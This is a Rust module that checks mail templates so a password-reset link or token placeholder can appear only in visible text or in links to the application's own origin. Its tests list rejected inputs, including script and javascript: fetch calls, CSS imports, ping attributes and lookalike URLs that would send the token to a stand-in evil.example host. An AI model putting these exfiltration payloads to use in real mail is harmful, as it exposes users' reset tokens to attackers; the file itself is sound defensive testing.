//! Where a configured mail may have its link.
//!
//! A mail program loads images and styles, and makes links of URLs in text. The token must reach
//! no other host by any of these ways, so it is allowed in two places: in text, and in the `href`
//! of an `a` that leads to an origin of the application.

/// Elements whose text is not shown, or is sent with a form.
const NOT_TEXT: [&str; 20] = [
    "audio", "button", "canvas", "datalist", "iframe", "math", "noembed", "noframes", "noscript",
    "object", "option", "script", "select", "style", "svg", "template", "textarea", "title",
    "video", "xmp",
];

/// The link and the token, without blanks in the braces.
const LINK: &str = "${link}";
const HASH: &str = "${hash}";

/// Removes the blanks within the braces of placeholders, so that each has one spelling.
pub(crate) fn with_plain_placeholders(text: &str) -> String {
    let mut parts = text.split("${");
    let mut plain = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let (name, rest) = part.split_once('}').unzip();
        plain.push_str("${");
        plain.push_str(name.unwrap_or(part).trim());
        if let Some(rest) = rest {
            plain.push('}');
            plain.push_str(rest);
        }
    }
    plain
}

/// Checks the places of the link in the HTML of a mail. `is_own` returns whether a URL has an
/// origin of the application.
///
/// # Errors
///
/// The first place that is not allowed.
pub(crate) fn check(body: &str, is_own: &dyn Fn(&str) -> bool) -> Result<(), String> {
    let mut rest = body;
    // The element that hides its text, and whether the text is that of a link to another host.
    let (mut hidden, mut is_foreign_link) = (None::<String>, false);
    while !rest.is_empty() {
        let (text, after) = rest.split_once('<').unwrap_or((rest, ""));
        if mentions_link(text) && (hidden.is_some() || is_foreign_link) {
            return Err(misplaced());
        }
        for word in plain_text(text).split_whitespace().filter(|word| mentions_link(word)) {
            if !is_safe_word(word, is_own) {
                return Err(foreign());
            }
        }
        let Some(tag) = Tag::parse(after) else {
            let end = if after.starts_with("!--") { "-->" } else { ">" };
            let (comment, next) = if after.starts_with(['!', '?', '/']) {
                after.split_once(end).unwrap_or((after, ""))
            } else {
                // A lone `<` is text.
                ("", after)
            };
            // A token after a `<` begins a tag.
            if mentions_link(comment) || after.starts_with("${") {
                return Err(misplaced());
            }
            rest = next;
            continue;
        };
        let is_link = tag.name == "a" && !tag.closes;
        let mut hrefs = tag.attributes.iter().filter(|(name, _)| is_link && name == "href");
        let placed: usize = hrefs.clone().map(|(_, value)| value.matches("${").count()).sum();
        if mentions_link(tag.source) {
            if hidden.is_some() || placed != tag.source.matches("${").count() {
                return Err(misplaced());
            }
            if !hrefs.clone().all(|(_, url)| leads_home(url, is_own)) {
                return Err(foreign());
            }
        }
        if tag.name == "a" {
            is_foreign_link = hrefs.next().is_some_and(|(_, url)| !leads_home(url, is_own));
        }
        if hidden.is_none() && !tag.closes && NOT_TEXT.contains(&tag.name.as_str()) {
            hidden = Some(tag.name);
        } else if tag.closes && hidden.as_ref() == Some(&tag.name) {
            hidden = None;
        }
        rest = tag.rest;
    }
    Ok(())
}

/// Checks the places of the link in the plain text of a mail, as [`check`] does in HTML.
///
/// # Errors
///
/// The first place that is not allowed.
pub(crate) fn check_text(text: &str, is_own: &dyn Fn(&str) -> bool) -> Result<(), String> {
    let mut words = text.split_whitespace().filter(|word| mentions_link(word));
    if words.all(|word| is_safe_word(word, is_own)) { Ok(()) } else { Err(foreign()) }
}

fn misplaced() -> String {
    format!(
        "must have `{LINK}` and `{HASH}` only in text, or in the `href` of an `<a>`: from any other \
         place, a mail program can send the token to another host"
    )
}

fn foreign() -> String {
    format!(
        "must have `{LINK}` and `{HASH}` only in URLs that begin with the origin of `PUBLIC_URL`, \
         `LINK_URL` or `ALLOWED_ORIGINS`, or apart from other text, by blanks"
    )
}

fn mentions_link(text: &str) -> bool {
    text.contains(LINK) || text.contains(HASH)
}

/// Returns whether a URL is the link, or has an origin of the application.
fn leads_home(url: &str, is_own: &dyn Fn(&str) -> bool) -> bool {
    let url = url.trim();
    url.starts_with(LINK) || is_own(url)
}

/// Replaces the character references that end a word, or stand for punctuation, by what they show.
fn plain_text(text: &str) -> String {
    let ends = [("&nbsp;", " "), ("&lt;", " "), ("&gt;", " "), ("&quot;", "\"")];
    ends.iter().fold(text.to_owned(), |text, (reference, shown)| text.replace(reference, shown))
}

/// Returns whether no mail program can make a link to another host of a word with the placeholder:
/// the word is a URL of the application, or has none of the characters that hosts and paths have.
fn is_safe_word(word: &str, is_own: &dyn Fn(&str) -> bool) -> bool {
    const OPENING: &str = "([\"'„“”‘’«»:;,-–—";
    const CLOSING: &str = ".,:;!?)]\"'„“”‘’«»…";
    let word =
        word.trim_start_matches(|c| OPENING.contains(c)).trim_end_matches(|c| CLOSING.contains(c));
    let around = word.replace(LINK, "").replace(HASH, "");
    leads_home(word, is_own)
        || around.chars().all(|c| is_letter(c) || "()[]\"'„“”‘’«»:;,=#_–—-".contains(c))
}

/// Returns whether this is an ASCII letter or digit, or in a block of letters. The blocks have none
/// of the characters that a host may be written with instead of `.` (UTS 46).
const fn is_letter(c: char) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(c, '\u{c0}'..='\u{1fff}' | '\u{3041}'..='\u{9fff}' | '\u{ac00}'..='\u{d7a3}')
}

/// A tag, as the HTML standard reads it (WHATWG HTML section 13.2.5).
struct Tag<'a> {
    /// Its name in lower case.
    name: String,
    /// Whether it is an end tag.
    closes: bool,
    /// Its attributes, with names in lower case.
    attributes: Vec<(String, &'a str)>,
    /// Everything between the angle brackets.
    source: &'a str,
    /// What follows the tag.
    rest: &'a str,
}

impl<'a> Tag<'a> {
    /// Parses what follows a `<`. Returns `None` if that begins no tag.
    fn parse(after: &'a str) -> Option<Self> {
        let start = after.strip_prefix('/');
        let closes = start.is_some();
        let start = start.unwrap_or(after);
        if !start.starts_with(|c: char| c.is_ascii_alphabetic()) {
            return None;
        }
        let (name, mut rest) = split_before(start, |c| is_blank(c) || matches!(c, '/' | '>'));
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c| is_blank(c) || c == '/');
            if rest.is_empty() || rest.starts_with('>') {
                break;
            }
            let (name, after) = split_before(rest, |c| is_blank(c) || matches!(c, '/' | '>' | '='));
            let (value, next) = match after.trim_start_matches(is_blank).strip_prefix('=') {
                Some(value) => attribute_value(value.trim_start_matches(is_blank)),
                None => ("", after),
            };
            attributes.push((name.to_ascii_lowercase(), value));
            rest = next;
        }
        let length = after.len().saturating_sub(rest.len());
        Some(Self {
            name: name.to_ascii_lowercase(),
            closes,
            attributes,
            source: after.get(..length).unwrap_or(after),
            rest: rest.strip_prefix('>').unwrap_or(rest),
        })
    }
}

/// Splits an attribute's value from what follows it.
fn attribute_value(text: &str) -> (&str, &str) {
    for quote in ['"', '\''] {
        if let Some(text) = text.strip_prefix(quote) {
            return text.split_once(quote).unwrap_or((text, ""));
        }
    }
    if text.starts_with('>') {
        return ("", text);
    }
    split_before(text, |c| is_blank(c) || c == '>')
}

/// Splits a text before the first character that `ends` accepts, the first one excepted.
fn split_before(text: &str, ends: impl Fn(char) -> bool) -> (&str, &str) {
    let end = text.char_indices().skip(1).find(|(_, c)| ends(*c));
    text.split_at(end.map_or(text.len(), |(place, _)| place))
}

const fn is_blank(c: char) -> bool {
    c.is_ascii_whitespace()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Checks a body for an application at `https://accounts.example.com`.
    fn reason(body: &str) -> String {
        let is_own = |url: &str| {
            crate::application::has_origin_of(&["https://accounts.example.com".to_owned()], url)
        };
        check(&with_plain_placeholders(body), &is_own).err().unwrap_or_default()
    }

    #[test]
    fn the_link_is_allowed_in_text_and_in_links_of_the_application() {
        for body in [
            "no link",
            "${link}",
            "Open ${ link }.",
            "Your code: ${hash}",
            "Code:${hash}, (${hash}) [${hash}] \"${hash}\" „${hash}“",
            "<p>Code:&nbsp;${hash}</p> &lt;${link}&gt;",
            "<a href=\"${link}\">Choose a new password</a>",
            "<a href=\" ${link} \" title='a > b'>x</a>",
            "<A HREF='${link}'>${link}</A>",
            "<a class=button href=${link}>x</a>",
            "<a href=\"${link}&amp;from=mail\">x</a>",
            "<a href=\"https://accounts.example.com/r?t=${hash}\">${hash}</a>",
            "<a href=\"HTTPS://Accounts.Example.com:443/#${hash}\">x</a>",
            "https://accounts.example.com/#${hash}.",
            "(https://accounts.example.com?${user.name}=${hash})",
            "<a href=\"https://other.example/help\">help</a> ${link}",
            "<style>p { color: red }</style><img src=\"https://other.example/logo.png\">${link}",
            "1 < 2 ${link}",
            "<br/>${link}<br>",
        ] {
            assert_eq!(reason(body), "", "{body}");
        }
    }

    #[test]
    fn the_link_is_refused_where_it_leads_to_another_host() {
        for body in [
            "<a href=\"https://evil.example/?t=${hash}\">x</a>",
            "<a href=\"https://evil.example/?t=${ hash }\">x</a>",
            "<a href=\"//evil.example/${hash}\">x</a>",
            "<a href=\"/${hash}\">x</a>",
            "<a href=\"${hash}\">x</a>",
            "<a href=\"http://accounts.example.com/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com.evil.example/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com@evil.example/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com\\@evil.example/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com&#46;evil.example/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com\t.evil.example/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com:8443/${hash}\">x</a>",
            "<a href=\"https://accounts.example.com${hash}\">x</a>",
            "<a href=\"https://${hash}.evil.example/\">x</a>",
            "<a href=\"https://evil.example/?next=${link}\">x</a>",
            "<a href=\"mailto:a@evil.example?body=${link}\">x</a>",
            "<a href=\"javascript:fetch('//e/${hash}')\">x</a>",
            "https://evil.example/?t=${hash}",
            "evil.example/${hash}",
            "www.evil.example?${hash}",
            "${hash}.evil.example",
            "${hash}@evil.example",
            "${hash}\u{3002}evil\u{3002}example",
            "${hash}&#46;evil&#46;example",
            "evil.example/?u=${link}",
            "${hash}${user.name}",
        ] {
            assert!(reason(body).contains("only in URLs"), "{body}: {}", reason(body));
        }
    }

    #[test]
    fn the_link_is_refused_in_every_other_place() {
        for body in [
            "<img src=\"https://t.example/p.gif?${hash}\">${link}",
            "<img src=\"https://accounts.example.com/p.gif?${hash}\">",
            "<img src=x srcset='${link} 2x'>",
            "<a href=\"${link}\" ping=\"https://evil.example/${hash}\">x</a>",
            "<a ${hash} href=\"${link}\">x</a>",
            "<a title=\"${hash}\">x</a>",
            "<p style=\"background: url(https://evil.example/${hash})\">x</p>",
            "<p data-x='>' title=\"${hash}\">",
            "<p title=it's id=\"${hash}\">'</p>",
            "<link rel=prefetch href=\"${link}\">",
            "<area href=\"${link}\">",
            "<base href=\"${link}\">",
            "<form action=\"${link}\"></form>",
            "<input value=\"${hash}\">",
            "<form action=\"https://evil.example\"><textarea name=t>${hash}</textarea></form>",
            "<select><option>${hash}</option></select>",
            "<style>@import url(https://evil.example/${hash});</style>",
            "<style><a href=\"${link}\"></style>",
            "<script>fetch('//evil.example/${hash}')</script>",
            "<svg><a href=\"${link}\"></a></svg>",
            "<title>${hash}</title>",
            "<!-- ${hash} -->",
            "<!--[if mso]><a href=\"${link}\">x</a><![endif]-->",
            "<?x ${hash}?>",
            "<${hash}>",
            "<p ${hash}",
            "</a href=\"${link}\">",
            "<a href=\"https://evil.example/\">${link}</a>",
        ] {
            assert!(reason(body).contains("only in text"), "{body}: {}", reason(body));
        }
    }
}
